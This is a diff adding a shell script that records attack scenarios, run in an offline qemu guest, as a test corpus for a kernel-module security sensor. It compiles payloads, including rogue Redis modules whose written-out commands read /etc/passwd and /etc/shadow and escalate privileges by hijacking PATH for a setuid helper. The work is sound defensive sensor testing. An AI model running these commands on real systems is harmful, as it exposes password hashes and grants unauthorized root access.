@@ -1,0 +1,74 @@
+#!/bin/sh
+# Records the scenario corpus (scenarios/README.md).
+#
+#   scenarios/record.sh [RUN...]     default: every run of scenarios/runs.txt
+#
+# For each run: boots the Debian kernel in qemu (TCG, no network) with
+# yalas.ko through sensor-kmod/scripts/run-in-guest.sh, runs
+# scenarios/guest/run.sh there, checks the recording (tools/check.py) and,
+# only if the check passes, copies it to scenarios/corpus/ and updates
+# corpus/manifest.json.  Exit status 1 if any run failed its check.
+# Builds go to scenarios/build/ (git-ignored); sensor-kmod is only built and
+# used, never modified.
+set -eu
+S=$(cd "$(dirname "$0")" && pwd)
+K=$(cd "$S/../sensor-kmod" && pwd)
+export BUILD="$S/build/kmod"	# run-in-guest.sh and sensor-kmod's make use it
+KVER=${SCENARIO_KVER:-$("$K/scripts/find-kernels.sh" | awk '{print $1}')}
+
+# setup: what the guest borrows from the host's root (read-only 9p)
+"$K/scripts/install-deps.sh"
+need=
+for p in lz4 redis-server redis-tools strace curl python3 bash util-linux; do
+	dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'ok installed' || need="$need $p"
+done
+if [ -n "$need" ]; then
+	apt-get update -qq
+	DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends $need
+fi
+
+# tools: yalas-capture (sensor-kmod), the static helpers and the payloads
+make -s -C "$K" tools
+make -s -C "$K" abi-layout > "$S/build/abi-layout.txt"
+mkdir -p "$S/build/bin" "$S/build/payload" "$S/build/out" "$S/corpus"
+CFLAGS="-O2 -Wall -Wextra -Werror"
+gcc $CFLAGS -static -o "$S/build/bin/svc-diag" "$S/src/svc-diag.c"
+for t in memscrape spray kstage; do
+	gcc $CFLAGS -static -o "$S/build/payload/$t" "$S/src/$t.c"
+done
+# the rogue Redis modules: recon as the redis user / PATH hijack of the setuid helper
+gcc $CFLAGS -shared -fPIC -o "$S/build/payload/rogue-recon.so" \
+	-DROGUE_CMD='"id; uname -a; cat /etc/passwd; cat /etc/shadow; ls -la /var/lib/redis-scen"' "$S/src/rogue-module.c"
+gcc $CFLAGS -shared -fPIC -o "$S/build/payload/rogue-privesc.so" \
+	-DROGUE_CMD='"mkdir -p /tmp/.p; printf \"#!/bin/sh\\nid; cat /etc/shadow | head -3\\n\" > /tmp/.p/uptime; chmod +x /tmp/.p/uptime; PATH=/tmp/.p:$PATH /usr/local/sbin/svc-diag status"' \
+	"$S/src/rogue-module.c"
+cp "$S/services/webapp/payload/"* "$S/build/payload/"
+
+fail=0
+entries=
+grep -v '^#' "$S/runs.txt" | while read -r svc run mode; do
+	[ -n "$run" ] || continue
+	if [ $# -gt 0 ]; then
+		case " $* " in *" $run "*) ;; *) continue ;; esac
+	fi
+	out="$S/build/out/$run"
+	rm -rf "$out"
+	mkdir -p "$out"
+	t0=$(date +%s)
+	echo "=== $run ($svc, $mode) on $KVER"
+	"$K/scripts/run-in-guest.sh" -k "$KVER" -m 1536 -o "$out" -- \
+		/bin/sh "$S/guest/run.sh" "$svc" "$run" "$mode" > "$out/guest.log" 2>&1 || true
+	if python3 "$S/tools/check.py" run "$S/build/abi-layout.txt" "$out" "$svc" "$run" "$mode"; then
+		cp "$out/$run.ycap.lz4" "$S/corpus/"
+		python3 "$S/tools/check.py" manifest "$S/corpus" "$out/$run.entry.json"
+		echo "=== $run: ok ($(( $(date +%s) - t0 ))s, $(wc -c < "$out/$run.ycap.lz4") bytes)"
+	else
+		echo "=== $run: FAILED (guest log: $out/guest.log)"
+		tail -n 30 "$out/guest.log"
+		echo fail > "$S/build/out/.failed"
+	fi
+done
+if [ -e "$S/build/out/.failed" ]; then
+	rm -f "$S/build/out/.failed"
+	exit 1
+fi
